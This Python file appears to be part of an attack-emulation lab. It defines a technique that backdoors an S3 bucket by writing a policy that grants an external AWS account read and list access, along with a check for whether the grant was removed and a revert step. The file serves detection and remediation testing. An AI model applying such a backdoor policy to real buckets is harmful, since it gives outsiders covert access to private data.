"""s3-backdoor-bucket-policy: grant an external account read access to a bucket (T1098)."""

from __future__ import annotations

import json
from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.iam_role import EXTERNAL_PRINCIPAL, external_principals
from lab.attacks.resources import account_id, missing_ok
from lab.attacks.s3_bucket import LabBucketTechnique, lock_down
from lab.emulator.endpoints import Endpoints


class S3BackdoorBucketPolicy(LabBucketTechnique):
    folder = Path(__file__).parent
    PURPOSE = "target-backdoor-policy"

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        bucket = prerequisites["bucket"]
        policy = {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Sid": "Backdoor",
                    "Effect": "Allow",
                    "Principal": {"AWS": EXTERNAL_PRINCIPAL},
                    "Action": ["s3:GetObject", "s3:ListBucket"],
                    "Resource": [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"],
                }
            ],
        }
        endpoints.client("s3", "attacker").put_bucket_policy(
            Bucket=bucket, Policy=json.dumps(policy)
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """No statement of the bucket policy lets a principal outside the account in (public access
        blocks do not stop a grant to a named account)."""
        with missing_ok("NoSuchBucketPolicy"):
            policy = endpoints.client("s3", "observer").get_bucket_policy(
                Bucket=prerequisites["bucket"]
            )["Policy"]
            return not external_principals(policy, account_id(endpoints))
        return True

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        s3 = endpoints.client("s3", "harness")
        with missing_ok("NoSuchBucketPolicy"):
            s3.delete_bucket_policy(Bucket=prerequisites["bucket"])
        lock_down(s3, prerequisites["bucket"])


TECHNIQUE = S3BackdoorBucketPolicy
